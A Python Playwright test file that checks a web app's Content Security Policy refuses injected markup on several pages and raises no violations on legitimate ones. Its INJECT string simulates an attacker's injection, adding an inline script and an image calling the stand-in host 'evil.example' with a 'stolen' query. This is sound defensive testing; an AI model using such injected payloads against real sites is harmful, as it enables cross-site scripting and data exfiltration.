"""What browsers are told to refuse, they refuse, and none of it is anything of ours.

Every test in this folder fails when a policy refuses something; these ask for it.
"""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Site, is_refusal, sign_up

pytestmark = pytest.mark.browser

# What an attacker who got markup onto a page would try; answers what was refused.
INJECT = """() => new Promise((resolve) => {
  const refused = []
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    refused.push(effectiveDirective)
    if (refused.length === 2) resolve(refused.sort())
  })
  const script = document.createElement("script")
  script.textContent = "window.injected = true"
  document.body.append(script)
  const image = document.createElement("img")
  image.src = "https://evil.example/?stolen"
  document.body.append(image)
})"""


@pytest.mark.parametrize("path", ["/", "/docs/errors", "/admin/login/"])
def test_a_script_put_into_a_page_does_not_run_and_tells_nobody(site: Site, path: str):
    page = site.chromium.new_context(base_url=site.url).new_page()
    page.goto(path)

    with page.expect_console_message(is_refusal):
        refused = page.evaluate(INJECT)

    assert refused == ["img-src", "script-src-elem"]
    assert page.evaluate("window.injected") is None


def test_the_pages_of_the_app_and_of_its_makers_are_refused_nothing(site: Site):
    page = site.visitor().new_page()
    sign_up(page, "alice")
    expect(page.locator("km-map-canvas canvas")).to_be_visible()
    for path in ("/wallet", "/profile", "/profile/selling", "/live"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
    page.goto("/api/docs")
    expect(page.get_by_role("heading", name="Kamegor")).to_be_visible()
    for path in ("/api/docs/realtime", "/docs/errors", "/admin/login/"):
        page.goto(path)
    assert site.faults == []
